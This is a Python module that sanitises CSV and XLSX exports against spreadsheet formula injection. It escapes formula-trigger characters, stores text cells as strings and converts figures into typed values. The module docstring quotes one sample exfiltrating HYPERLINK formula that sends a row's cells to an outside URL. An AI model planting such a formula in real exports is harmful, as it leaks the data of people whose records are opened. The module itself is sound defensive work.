"""Every CSV and XLSX file the product writes goes through here, so that no cell is a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return, or their full-width forms) as a formula: participants' free text and
questionnaire labels written as ``=HYPERLINK("https://…/?"&D2,"x")`` would send the row's other
cells away when the file is opened (OWASP, "CSV injection").

- CSV (:func:`csv_writer`): such a text cell is written with a leading ``'``, which spreadsheets
  show as text and people can strip. Every text cell is quoted; but where ``;`` is the list
  separator Excel splits a comma file at each ``;`` and line break whatever the quotes, so a
  trigger after a ``;``, tab or line break inside a cell gets its ``'`` too (a free-text answer's
  "- bullet" lines read "'- bullet" in CSV; the XLSX keeps them exactly). A number stays a number,
  and so does text that is a plain figure ("-3", "+2.5", "-12%", "+4 pts").
- XLSX (:func:`xlsx_append`): every text cell is stored as a string, never as a formula, keeping
  its exact words; one that begins with a trigger also carries Excel's quote prefix, so editing it
  in Excel keeps it text.

``tests/test_security_exports.py`` checks that no module writes CSV or XLSX any other way, and
reads every export back looking for a formula.
"""

from __future__ import annotations

import csv
import re
from datetime import date, datetime
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# a trigger that would begin a cell of its own where ";" separates cells, or on a line of its own
INNER = re.compile(r"(?<=[;\t\r\n])(?=[=+\-@＝＋－＠])")
# a figure the reports write as text: "-3", "+2.5", "-12%", "+4 pts" (a gap in points)
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:%| pts)?")


def is_risky(text: str) -> bool:
    """Would a spreadsheet read this text as (the start of) a formula?"""
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text)


def neutral(value: Any) -> Any:
    """The CSV cell for ``value``: numbers, dates and empty cells as they are; text that would
    be a formula with a leading apostrophe."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = INNER.sub("'", str(value))
    return "'" + text if is_risky(text) else text


class _Writer:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutral(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _Writer:
    """A ``csv.writer`` whose every cell goes through :func:`neutral`."""
    return _Writer(stream, **kwargs)


def xlsx_cell(sheet, value):
    """An openpyxl cell for ``value``: text as text (never a formula), numbers as numbers."""
    from openpyxl.cell.cell import Cell

    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return Cell(sheet, value=value)
    text = str(value)
    cell = Cell(sheet, value=text)
    cell.data_type = "s"  # openpyxl would store "=…" as a formula
    if is_risky(text):
        cell.quotePrefix = True
    return cell


INTEGER = re.compile(r"-?\d{1,15}")
DECIMAL = re.compile(r"-?\d{1,15}\.\d{1,6}")
PERCENT = re.compile(r"(-?\d{1,3}(?:\.\d{1,3})?)%")
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def typed(value: Any) -> tuple[Any, str | None]:
    """A table cell written as text ("12", "3.5", "34%", "2026-03-01") as the number or date it
    says, with the number format that shows it the same way: (value, format or None). Anything
    else ("<5", "x", "–", "12 of 40", a name) stays as it is, so a spreadsheet computes with the
    figures and never with a suppressed cell."""
    if not isinstance(value, str):
        return value, None
    text = value.strip()
    if INTEGER.fullmatch(text):
        return int(text), "0"
    if DECIMAL.fullmatch(text):
        places = len(text.split(".")[1])
        return float(text), "0." + "0" * places
    if m := PERCENT.fullmatch(text):
        places = len(m.group(1).split(".")[1]) if "." in m.group(1) else 0
        return float(m.group(1)) / 100, "0" + ("." + "0" * places if places else "") + "%"
    if ISO_DATE.fullmatch(text):
        try:
            return date.fromisoformat(text), "yyyy-mm-dd"
        except ValueError:
            return value, None
    return value, None


def xlsx_append_typed(sheet, row) -> None:
    """:func:`xlsx_append` for a published table's row: figures written as text become numbers,
    percentages and dates (:func:`typed`), shown as they were written."""
    cells = []
    for v in row:
        value, number_format = typed(v)
        cell = xlsx_cell(sheet, value)
        if number_format:
            cell.number_format = number_format
        cells.append(cell)
    sheet.append(cells)


# Characters Excel refuses in a sheet name, and the name's limit.
SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
SHEET_MAX = 31


def sheet_names(titles: list[str]) -> list[str]:
    """Distinct, valid sheet names for ``titles``, in order: the title itself where it fits in
    Excel's 31 characters, else cut at a word with "…" and, where two would clash, numbered.
    The full title stays in the sheet's first cell."""
    out: list[str] = []
    for title in titles:
        name = title.replace("/", "-")  # "Mentors/mentees" reads as "Mentors-mentees"
        name = " ".join(SHEET_FORBIDDEN.sub("", name).split()).strip("'") or "Sheet"
        if len(name) > SHEET_MAX:
            cut = name[: SHEET_MAX - 1].rsplit(" ", 1)[0].rstrip(" ,;-–·")
            name = (cut or name[: SHEET_MAX - 1]) + "…"
        base, n = name, 2
        while name.casefold() in {o.casefold() for o in out}:
            suffix = f" ({n})"
            name = base[: SHEET_MAX - len(suffix)].rstrip() + suffix
            n += 1
        out.append(name)
    return out


def xlsx_append(sheet, row) -> None:
    """Append ``row`` to an openpyxl worksheet through :func:`xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, v) for v in row])
